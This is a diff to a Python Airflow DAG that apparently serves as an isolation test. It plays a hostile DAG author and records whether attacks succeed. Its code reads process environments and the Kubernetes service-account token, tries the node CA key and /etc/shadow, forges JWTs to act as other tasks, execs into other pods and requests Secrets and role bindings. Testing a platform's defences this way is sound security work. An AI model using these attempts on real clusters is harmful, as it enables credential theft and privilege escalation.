@@ -1,8 +1,8 @@
 """Attacks of a hostile Dag author, from every place where the code runs.
 
-Each attempt answers `done` or why not. The top of this file runs in the dag-processor; what it
-found is the documentation of the Dag. A task that defers hands this file to the triggerer.
-Whom to attack is in a file beside this one.
+Each attempt returns `done` or an error. The top of this file runs in the dag-processor, and its
+outcomes become the documentation of the Dag. A deferred task sends this file to the triggerer.
+The targets are in attacker.json, in the same folder.
 """
 
 import base64
@@ -27,7 +27,7 @@ from typing import Any
 from airflow.sdk import BaseOperator, dag, get_current_context, task
 from kubernetes.client import models as k8s
 
-# The sender of this file to the triggerer sets it.
+# In the triggerer, the task that has sent this file sets TOLD.
 ABOUT = globals().get("TOLD") or json.loads(Path(__file__).with_name("attacker.json").read_text())
 ACCOUNT_TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
 SECONDS = 3
@@ -48,7 +48,7 @@ def connect(target: str) -> str:
 
 
 def environments() -> str:
-    """The environments of all readable processes."""
+    """Return the environments of all readable processes."""
     found = []
     for file in Path("/proc").glob("[0-9]*/environ"):
         try:
@@ -60,19 +60,19 @@ def environments() -> str:
 
 def variable(name: str) -> str:
     match = re.search(rf"(?:^|\0){name}=([^\0]*)", environments())
-    # Airflow takes the URL away from tasks by writing this in its place.
+    # Airflow replaces the URL by this value in tasks.
     if not match or match[1].startswith("airflow-db-not-allowed"):
         raise PermissionError("not in the environment")
     return "done"
 
 
 def environment_of_another() -> str:
-    """A process whose host is not this one is of another pod."""
+    """Find a process of another pod by its host name."""
     hosts = set(re.findall(r"(?:^|\0)HOSTNAME=([^\0]*)", environments()))
     if not hosts:
-        raise LookupError("not even its own environment can be read")
+        raise LookupError("even its own environment cannot be read")
     if hosts == {socket.gethostname()}:
-        raise PermissionError("there are processes of this pod only")
+        raise PermissionError("all processes belong to this pod")
     return "done"
 
 
@@ -108,8 +108,8 @@ ATTEMPTS: dict[str, Callable[[], str]] = {
     **{what: partial(variable, name) for what, name in SECRETS.items()},
     "read another pod's environment": environment_of_another,
     **{f"reach {target}": partial(connect, target) for target in ABOUT["targets"]},
-    "read a token of Kubernetes": partial(read, str(ACCOUNT_TOKEN)),
-    "read Secrets by the Kubernetes API": partial(kubernetes, "/api/v1/secrets"),
+    "read a Kubernetes token": partial(read, str(ACCOUNT_TOKEN)),
+    "read Secrets through the Kubernetes API": partial(kubernetes, "/api/v1/secrets"),
     "read a key of the node": partial(read, "/etc/kubernetes/pki/ca.key", "/host/etc/shadow"),
     "write to the root file system": partial(write, "/usr/local/bin/attacked"),
     "write to Airflow's own code": partial(write, os.__file__ + ".attacked"),
@@ -121,7 +121,7 @@ ATTEMPTS: dict[str, Callable[[], str]] = {
     "open a raw socket": lambda: (
         socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close() or "done"
     ),
-    "read the messages of the kernel": partial(call, "klogctl", 3, b" " * 64, 64),
+    "read the kernel log": partial(call, "klogctl", 3, b" " * 64, 64),
 }
 
 
@@ -138,7 +138,7 @@ def outcomes(attempts: dict[str, Callable[[], str]]) -> dict[str, str]:
 
 
 def forged(how: str, **claims: Any) -> str:
-    """A forged token: with its own signature, unsigned, or signed with a guessed secret."""
+    """Return a forged token: with its own signature, unsigned, or signed with a guessed secret."""
     import jwt
 
     if how == "unsigned":
@@ -173,14 +173,14 @@ def run_as(token: str, task_instance: str) -> str:
     try:
         urllib.request.urlopen(request, timeout=10)
     except urllib.error.HTTPError as error:
-        # The token is taken, and the task runs already or has run.
+        # The token is accepted; the task runs already or has run.
         if error.code != HTTPStatus.CONFLICT:
             raise
     return "done"
 
 
 def own_token() -> str:
-    """The token that the executor wrote into the arguments of this pod."""
+    """Return the token that the executor wrote into the arguments of this pod."""
     for file in Path("/proc").glob("[0-9]*/cmdline"):
         if match := TOKEN.search(file.read_text(errors="replace")):
             return match[1]
@@ -188,7 +188,7 @@ def own_token() -> str:
 
 
 def by_token(mine: str, other: str) -> dict[str, str]:
-    """Outcomes of requests with tokens of the execution API."""
+    """Return the outcomes of requests with tokens of the execution API."""
     claims = {"sub": other, "scope": "workload", "aud": "urn:airflow.apache.org:task"}
     claims |= {"iat": time.time(), "nbf": time.time(), "exp": time.time() + 600}
     return outcomes(
@@ -207,7 +207,7 @@ def by_token(mine: str, other: str) -> dict[str, str]:
 
 
 def kubernetes_api() -> Any:
-    """The Kubernetes API, with this pod's account or unauthenticated."""
+    """Return a client of the Kubernetes API, with this pod's account or unauthenticated."""
     from kubernetes import client
 
     settings = client.Configuration(host="https://kubernetes.default.svc")
@@ -226,12 +226,12 @@ def environment_by_exec(namespace: str, pod: str) -> str:
     try:
         act(pod, namespace, command=["env"], _request_timeout=2 * SECONDS)
     except client.ApiException as error:
-        # It would be allowed, but for the protocol; `stream` hides other answers.
+        # Status 400: allowed, but in the wrong protocol; `stream` hides other responses.
         if error.status != HTTPStatus.BAD_REQUEST:
             raise
     said = stream(act, pod, namespace, command=["env"], stdout=True, stderr=True)
     if f"HOSTNAME={pod}" not in said:
-        raise LookupError(f"it says {said}")
+        raise LookupError(f"unexpected output: {said}")
     return "done"
 
 
@@ -241,11 +241,11 @@ def token_of_another(core: Any, namespace: str) -> str:
         words = [word for one in pod.spec.containers for word in one.args or []]
         if pod.metadata.name != socket.gethostname() and any(map(TOKEN.search, words)):
             return "done"
-    raise LookupError("no other task is there")
+    raise LookupError("no other task is running")
 
 
 def by_kubernetes() -> dict[str, str]:
-    """Outcomes of requests to the Kubernetes API; all are dry runs."""
+    """Return the outcomes of requests to the Kubernetes API; all are dry runs."""
     from kubernetes import client
 
     api = kubernetes_api()
@@ -266,8 +266,8 @@ def by_kubernetes() -> dict[str, str]:
     legal = launched["launch a pod as the operator does"]
     tries: dict[str, Callable[[], str]] = {
         **{what: partial(create, pod) for what, pod in launched.items()},
-        "launch a pod beside the platform": partial(create, legal, main),
-        "launch a pod beside another team": partial(create, legal, other),
+        "launch a pod in the platform's namespace": partial(create, legal, main),
+        "launch a pod in another team's namespace": partial(create, legal, other),
         "read another pod's environment": partial(environment_by_exec, tasks, ABOUT["pod"]),
         "read the environment of the platform": partial(
             environment_by_exec, main, "airflow-postgresql-0"
@@ -279,10 +279,10 @@ def by_kubernetes() -> dict[str, str]:
         "change a ConfigMap": partial(
             ask, core.patch_namespaced_config_map, "airflow-config", tasks, {"data": {"a": "b"}}
         ),
-        "give itself rights": partial(
+        "give itself permissions": partial(
             ask, rights.create_namespaced_role_binding, tasks, binding, dry_run="All"
         ),
-        "make a token of another account": partial(
+        "create a token of another account": partial(
             ask, core.create_namespaced_service_account_token, "airflow-worker", tasks, request
         ),
     }
@@ -290,7 +290,7 @@ def by_kubernetes() -> dict[str, str]:
 
 
 def everything(mine: str = "", other: str = "") -> dict[str, dict[str, str]]:
-    """All of it at once: most attempts end by their limit, and a Dag file has half a minute."""
+    """Try everything in parallel: most attempts time out, and a Dag file has 30 seconds."""
     unknown = str(uuid.uuid4())
     with ThreadPoolExecutor() as pool:
         found = {
@@ -302,7 +302,7 @@ def everything(mine: str = "", other: str = "") -> dict[str, dict[str, str]]:
 
 
 def overridden(**spec: Any) -> dict[str, Any]:
-    """The executor_config of a task with another pod than the platform's."""
+    """Return the executor_config of a task with a pod that differs from the platform's."""
     labels = spec.pop("labels", None)
     container = spec.pop("container", {})
     base = k8s.V1Container(name="base", **container)
@@ -332,7 +332,7 @@ OVERRIDES = {
 IN_A_TASK = "AIRFLOW_IS_K8S_EXECUTOR_POD" in os.environ
 ELSEWHERE = IN_A_TASK or "TOLD" in globals() or "pytest" in sys.modules
 FOUND = {} if ELSEWHERE else everything()
-# The triggerer passes the text of a TypeError of a trigger on to the task.
+# The triggerer sends the message of a trigger's TypeError to the task.
 IN_THE_TRIGGERER = """
 import json
 names = {"__name__": "attacker", "__file__": file, "TOLD": told}
@@ -388,7 +388,7 @@ def attacker() -> None:
 
         @task(task_id=name, retries=0, executor_config=override)
         def overriding() -> None:
-            """It never runs."""
+            """Never runs, since its pod is refused."""
 
         overriding()
 
